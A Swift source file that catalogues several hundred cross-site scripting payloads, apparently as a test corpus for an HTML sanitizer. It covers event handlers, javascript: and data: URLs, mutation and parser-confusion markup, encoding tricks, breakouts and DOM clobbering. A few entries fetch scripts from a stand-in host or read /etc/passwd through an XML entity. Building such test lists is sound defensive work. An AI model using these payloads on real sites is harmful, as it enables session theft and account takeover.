/// Ways in which a fragment may try to run a program in a reader's browser, written down from what is publicly known of
/// how filters are evaded: event handlers, schemes, styles, broken tags, encodings, foreign markup, and markup that a
/// second parser reads in another way than the first.
public enum XSSVectors {
  /// All of them.
  public static let all: [String] =
    handlers + schemes + carriers + styles + broken + mutations + encodings + breakouts + clobbering

  /// Attributes that browsers run, on elements that are allowed and on some that are not.
  private static let handlers: [String] =
    """
    onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
    onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforetoggle onbeforeunload onbegin onblur onbounce oncanplay
    onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart
    ondrop onend onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange
    oninput oninvalid onkeydown onkeypress onkeyup onload onloadedmetadata onloadend onloadstart onmessage onmousedown
    onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste
    onpointerdown onpointerenter onpointerover onpopstate onprogress onreadystatechange onrepeat onreset onresize onscroll
    onscrollend onscrollsnapchange onsearch onselect onselectionchange onstart onsubmit ontoggle ontouchcancel ontouchend
    ontouchmove ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwheel
    """.split(whereSeparator: { $0 == " " || $0 == "\n" }).enumerated().map { index, name in
      switch index % 6 {
      case 0: "<p \(name)=alert(1) tabindex=1 autofocus>a</p>"
      case 1: "<img src=x \(name)=\"alert(1)\">"
      case 2: "<b/\(name)='alert(1)'>a</b>"
      case 3: "<table><tr><td \(name.uppercased())=alert(1)>a</td></tr></table>"
      case 4: "<a href=\"https://s.example/\"\(name)=alert(1)>a</a>"
      default: "<details open \n\(name)\n=\nalert`1`>a</details>"
      }
    }

  /// Links and pictures whose URL is a program.
  private static let schemes: [String] = urls.enumerated().map { index, url in
    index % 3 == 1 ? "<img src=\"\(url)\" alt=a>" : "<a href=\"\(url)\">a</a>"
  }

  /// URLs that are programs, or of a scheme that nobody needs.
  public static let urls: [String] = [
    "javascript:alert(1)", "JavaScript:alert(1)", "jAvAsCrIpT:alert(1)", " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)", "javascript\t:alert(1)",
    "java\u{0}script:alert(1)", "\u{1}javascript:alert(1)", "\u{1F}javascript:alert(1)", "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)", "java&#13;script:alert(1)", "&#14;javascript:alert(1)", "&#32;javascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58alert(1)", "javascript&#x3A;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript://s.example/%0aalert(1)", "javascript:/*--></title>*/alert(1)",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "jscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "DATA:text/html,x",
    "data:application/xhtml+xml,<x/>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
    "blob:https://s.example/1", "filesystem:https://s.example/x", "about:blank", "ms-its:x", "mhtml:x!y", "jar:x!/y",
    "res://x", "resource://x", "chrome://x", "file:///etc/passwd", "wyciwyg://x", "x-schema:y", "intent://x#Intent;end",
    "\u{A0}javascript:alert(1)", "\u{FEFF}javascript:alert(1)", "java\u{AD}script:alert(1)", "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)", "ja&#x76;ascript:alert(1)", "\\javascript:alert(1)", "./javascript:alert(1)",
  ]

  /// Elements that run, load or embed something by themselves.
  private static let carriers: [String] = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//e.example/x.js></script>",
    "<script/src=data:,alert(1)></script>", "<script\n>alert(1)</script\n>", "<script>alert(1)",
    "</script><script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<script type=module>alert(1)</script>",
    "<script xmlns=x>alert(1)</script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>a</text></a></svg>", "<svg><animate onbegin=alert(1) dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>", "<svg><image href=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>a</math>", "<math><mtext><img src onerror=alert(1)></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code=x.swf allowscriptaccess=always>", "<applet code=x.class></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>a</button>",
    "<form><input type=image src=x onerror=alert(1)></form>", "<isindex action=javascript:alert(1) type=image>",
    "<base href=javascript:/a/><a href=#>a</a>", "<base href=//e.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href=//e.example/x.css>", "<link rel=import href=//e.example/>",
    "<link rel=preload as=script href=x onload=alert(1)>",
    "<style>@import '//e.example/x.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
    "<style onload=alert(1)></style>", "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>", "<video poster=javascript:alert(1)></video>", "<track onload=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<select autofocus onfocus=alert(1)></select>",
    "<input autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<body background=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>", "<layer src=//e.example/></layer>", "<ilayer src=//e.example/>",
    "<table background=javascript:alert(1)><tr><td>a</td></tr></table>", "<td background=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<image src=x onerror=alert(1)>",
    "<img srcset='x 1x, javascript:alert(1) 2x' onerror=alert(1)>",
    "<picture><source srcset=x onerror=alert(1)></picture>",
    "<a href=# ping=//e.example/ target=_blank>a</a>",
    "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>",
    "<span datasrc=#x datafld=b dataformatas=html></span>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!ENTITY x '<script>alert(1)</script>'>&x;", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "<dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>",
    "<portal src=//e.example/></portal>", "<custom-element onclick=alert(1) is=x-y>a</custom-element>",
    "<div popover onbeforetoggle=alert(1) id=x></div><button popovertarget=x>a</button>",
    "<b data-bind='html: alert(1)' v-html='alert(1)' ng-init='alert(1)' x-init='alert(1)' hx-on:load='alert(1)'>a</b>",
  ]

  /// Styles that run, load, or cover the page.
  private static let styles: [String] = [
    "background:url(javascript:alert(1))", "background-image:url('javascript:alert(1)')", "width:expression(alert(1))",
    "width:exp/**/ression(alert(1))", "wi\\64th:expression(alert(1))", "width:\\65xpression(alert(1))",
    "color:expression\\28 alert(1)\\29", "behavior:url(x.htc)", "-moz-binding:url(x.xml#y)",
    "background:u\\72l(//e.example)",
    "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute;z-index:9999",
    "list-style:url(//e.example)",
    "content:'x'", "font-family:'</style><script>alert(1)</script>'", "color:red;}body{background:url(//e.example)",
    "@import '//e.example'", "color:\u{FF45}xpression(alert(1))", "width:calc(1px + expression(1))",
    "color:rgb(url(x))",
    "background:image-set('x' 1x)", "cursor:url(//e.example),auto", "filter:progid:x(y)", "mask:url(#x)",
    "--x:url(//e.example);background:var(--x)", "animation:x 1s", "color:red/**/;/*", "font-family:\"a;color:red",
    "color:attr(x url)", "background:element(#x)", "width:1px !important url(x)", "color:red\u{0}url(x)",
    "-o-link:'javascript:alert(1)';-o-link-source:current", "transform:scale(99)", "color:env(x)", "src:local(x)",
  ].map { "<p style=\"\($0.replacing("\"", with: "&quot;"))\">a</p>" }

  /// Tags that only some parsers take for tags.
  private static let broken: [String] = [
    "<img src=x onerror=alert(1)//", "<img src=\"x\"\"onerror=alert(1)>", "<img/src/onerror=alert(1)>",
    "<img \u{0}src=x onerror=alert(1)>",
    "<im\u{0}g src=x onerror=alert(1)>", "<\u{0}script>alert(1)</script>", "<img src='x`onerror=alert(1)//'>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<a href='x'onclick=alert(1)//'>a",
    "<a \u{C}href=javascript:alert(1)>a</a>",
    "<a href\u{B}=javascript:alert(1)>a</a>", "<img src=x onerror\u{0}=alert(1)>", "<img src=x onerror=\u{0}alert(1)>",
    "<p <script>alert(1)</script>", "<p title=\"<script>alert(1)</script>\">a</p>",
    "<p title='\"><img src=x onerror=alert(1)>'>a</p>",
    "<p title=`><img src=x onerror=alert(1)>`>a</p>",
    "<div title=x><img title='</div><img src=x onerror=alert(1)>'></div>",
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![if IE]><script>alert(1)</script><![endif]>",
    "<![CDATA[<script>alert(1)</script>]]>", "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php ?><script>alert(1)</script>",
    "<? foo=\"><script>alert(1)</script>\">", "<! foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<% foo><img src=x onerror=alert(1)>", "<a\u{2028}href=javascript:alert(1)>a</a>",
    "<a/href=javascript:alert(1)>a</a>",
    "<a foo=\"x' href='javascript:alert(1)\" href=javascript:alert(1)>a</a>",
    "<a href=javascript:alert(1) href=https://s.example>a</a>",
    "<a href=\"https://s.example\" HREF=javascript:alert(1)>a</a>", "<p/><script>alert(1)</script>",
    "<br/onclick=alert(1)/>",
    "<b =onclick=alert(1)>a</b>", "<b '=\"onclick=alert(1)>a</b>", "<b x=\">\" onclick=alert(1)>a</b>",
    "<b x='>' onclick=alert(1)>a</b>",
  ]

  /// Markup that changes its meaning when it is written out and read again.
  private static let mutations: [String] = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><desc><noscript><img title=\"</noscript><img src=x onerror=alert(1)>\"></desc></svg>",
    "<table><style><img title='</style><img src=x onerror=alert(1)>'></table>",
    "<p><svg><title><style><img src=x onerror=alert(1)></style></title></svg></p>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>", "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<a><table><a href=javascript:alert(1)>a</a></table></a>",
    "<b><p title='</b>'><i></b><img src=x onerror=alert(1)></i>",
    "<div id=a><div id=b></div><p></div></p><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<b>&lt;/b&gt;&lt;img src=x onerror=alert(1)&gt;</b>",
    "<img alt=\"&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" src=x>",
    "<a title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\" href=x>a</a>",
    "<a title='&#34; onclick=&#34;alert(1)' href=x>a</a>",
  ]

  /// Bytes that one reader decodes and another does not.
  private static let encodings: [String] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "\u{2039}script\u{203A}alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)",
    "&#0060script&#0062alert(1)", "&LT;script&GT;alert(1)", "&ltscript&gtalert(1)", "<\u{FEFF}script>alert(1)</script>",
    "\u{FEFF}<script>alert(1)</script>",
    "\u{FFFD}<script>alert(1)</script>", "<script\u{3000}>alert(1)</script>", "<scr\u{AD}ipt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>", "<İmg src=x onerror=alert(1)>",
    "\u{202E}<script>alert(1)</script>", "&#xD800;<img src=x onerror=alert(1)>",
    "&#x110000;<img src=x onerror=alert(1)>", "&#0;<img src=x onerror=alert(1)>",
    "\u{1B}$B<img src=x onerror=alert(1)>\u{1B}(B", "\u{E}<script>alert(1)</script>\u{F}",
  ]

  /// Texts that break out of the place where a careless writer would put them.
  private static let breakouts: [String] = [
    "]]><script>alert(1)</script>", "]]]]><![CDATA[><script>alert(1)</script>", "--><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><svg onload=alert(1)>", "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "*/alert(1)/*", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{ 'a' | raw }}", "{% include 'x' %}",
    "<%= alert(1) %>", "#{alert(1)}",
    "=HYPERLINK(\"javascript:alert(1)\")", "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "\r\n--boundary\r\n<script>alert(1)</script>",
    "[a](javascript:alert(1))", "![a](x\"onerror=\"alert(1))", "</body></html><script>alert(1)</script>",
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "[embed]javascript:alert(1)[/embed]",
  ]

  /// Names that a page's own programs would mistake for theirs.
  private static let clobbering: [String] = [
    "<a id=attributes name=innerHTML href=x>a</a>", "<form id=document><input name=cookie></form>",
    "<img name=getElementById src=x>",
    "<p id=__proto__ name=constructor>a</p>", "<a id=x href=x tabindex=1 accesskey=x contenteditable>a</a>",
    "<p slot=x part=y is=z nonce=w>a</p>",
  ]
}
